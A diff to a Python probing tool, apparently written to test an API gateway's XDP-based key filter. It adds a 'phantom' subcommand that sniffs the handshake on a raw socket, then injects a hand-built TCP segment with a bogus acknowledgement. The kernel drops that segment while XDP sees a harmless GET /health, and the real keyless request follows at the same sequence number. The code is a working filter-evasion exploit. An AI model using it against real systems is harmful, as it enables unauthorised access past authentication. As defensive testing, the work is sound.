@@ -29,6 +29,14 @@ Subcommands (all print to stdout; exit 0 unless the arguments are wrong):
             same connection, GET PATH (default /v1/ok). Prints both statuses
             (0 for a missing response).
 
+  phantom   --addr A --port P --iface IF [--path /v1/ok] [--key K]
+            [--fake-body N] [--then PATH]
+            a segment TCP discards but XDP sees (it acknowledges unsent
+            data): a public GET /health (or a POST with an N-byte body to
+            follow) as the connection's first bytes, then the real GET PATH
+            (keyless without --key) at the same sequence through the
+            socket, then a keyless GET of --then; prints the statuses.
+
   newkey    [--version V]
             a fresh API key: tg_ + version digit + 39 base62 characters.
 
@@ -393,6 +401,91 @@ def cmd_smuggle(args):
     return 0
 
 
+def inet_sum(data):
+    """The Internet checksum of data (RFC 1071), folded and complemented."""
+    if len(data) % 2:
+        data += b"\0"
+    total = sum(int.from_bytes(data[i:i + 2], "big") for i in range(0, len(data), 2))
+    while total >> 16:
+        total = (total & 0xffff) + (total >> 16)
+    return ~total & 0xffff
+
+
+def tcp_frame(dst_mac, src_mac, src, dst, sport, dport, seq, ack, payload):
+    """An Ethernet frame of an IPv4 TCP segment (PSH|ACK) with full checksums."""
+    import struct
+
+    tcp = struct.pack("!HHIIBBHHH", sport, dport, seq, ack, 5 << 4, 0x18, 64240, 0, 0)
+    pseudo = socket.inet_aton(src) + socket.inet_aton(dst) + struct.pack("!BBH", 0, 6,
+                                                                        len(tcp) + len(payload))
+    tcp = tcp[:16] + struct.pack("!H", inet_sum(pseudo + tcp + payload)) + tcp[18:]
+    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp) + len(payload), 0x4242, 0x4000,
+                     64, 6, 0, socket.inet_aton(src), socket.inet_aton(dst))
+    ip = ip[:10] + struct.pack("!H", inet_sum(ip)) + ip[12:]
+    return dst_mac + src_mac + b"\x08\x00" + ip + tcp + payload
+
+
+def cmd_phantom(args):
+    """A segment that XDP sees and TCP drops, then the real one at the same
+    sequence: the connection's first bytes go out once by hand on --iface
+    (an AF_PACKET frame acknowledging data the server never sent, which
+    TCP discards, RFC 9293 3.10.7.4) carrying a public GET /health padded
+    to the real request's length, then the real request through the socket:
+    GET --path with --key (none: keyless). With --fake-body N the dropped
+    request is a POST whose head says N bytes of body follow; with --then,
+    a keyless GET of that path follows the real request. Prints the
+    statuses read (0: none)."""
+    import struct
+
+    real = request_bytes(args.addr, args.port, args.path, args.key or None)
+    if args.fake_body:  # a body the dropped request says is to follow
+        fake = request_bytes(args.addr, args.port, "/health", None, "POST",
+                             (f"Content-Length: {args.fake_body}",))
+    else:
+        fake = request_bytes(args.addr, args.port, "/health", None)
+    # the same length, the shorter padded with a header
+    pad = b"X-Pad: " + b"p" * (abs(len(real) - len(fake)) + 10) + b"\r\n\r\n"
+    if len(fake) < len(real):
+        fake = fake[:-2] + pad
+        real = real[:-2] + b"X-Pad: " + b"p" * 10 + b"\r\n\r\n"
+    else:
+        real = real[:-2] + pad
+        fake = fake[:-2] + b"X-Pad: " + b"p" * 10 + b"\r\n\r\n"
+    # ETH_P_ALL: a socket of one protocol sees no outgoing frames (our SYN)
+    sniff = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0003))
+    sniff.bind((args.iface, 0))
+    sniff.settimeout(args.timeout)
+    with connect_nodelay(args) as s:
+        sport = s.getsockname()[1]
+        syn = synack = None
+        while syn is None or synack is None:
+            frame, addr = sniff.recvfrom(65536)
+            ip = frame[14:]
+            if frame[12:14] != b"\x08\x00" or len(ip) < 40 or ip[9] != 6:
+                continue
+            ihl = (ip[0] & 15) * 4
+            sp, dp, seq = struct.unpack("!HHI", ip[ihl:ihl + 8])
+            flags = ip[ihl + 13]
+            if sp == sport and dp == args.port and flags & 0x12 == 0x02:
+                syn = (frame[6:12], frame[0:6], seq)  # our MAC, the host's, our ISN
+            elif sp == args.port and dp == sport and flags & 0x12 == 0x12:
+                synack = seq
+        src_mac, dst_mac, isn = syn
+        sniff.send(tcp_frame(dst_mac, src_mac, s.getsockname()[0], args.addr, sport, args.port,
+                             (isn + 1) & 0xffffffff, (synack + 1 + 0x10000000) & 0xffffffff,
+                             fake))
+        sniff.close()
+        time.sleep(0.05)
+        s.sendall(real)
+        rd = Reader(s)
+        statuses = [rd.response()[0]]
+        if args.then:  # a keyless request behind it, in a segment of its own
+            s.sendall(request_bytes(args.addr, args.port, args.then, None))
+            statuses.append(rd.response()[0])
+    print(" ".join(str(st) for st in statuses))
+    return 0
+
+
 def siphash128(key, msg):
     """SipHash-2-4 with 128-bit output (the reference algorithm, DESIGN §8)."""
     mask = (1 << 64) - 1
@@ -614,6 +707,15 @@ def main():
     p.add_argument("--long-len", type=int, default=2000)
     p.add_argument("pieces", nargs="+")
     p.set_defaults(fn=cmd_pieces)
+
+    p = connecting("phantom")
+    p.add_argument("--iface", required=True, help="the client's interface, for the frame")
+    p.add_argument("--fake-body", type=int, default=0,
+                   help="the dropped request is a POST whose body is this long")
+    p.add_argument("--then", default="", help="a keyless GET of this path behind it")
+    p.add_argument("--path", default="/v1/ok")
+    p.add_argument("--key", default="")
+    p.set_defaults(fn=cmd_phantom)
 
     p = connecting("smuggle")
     p.add_argument("--key", required=True)
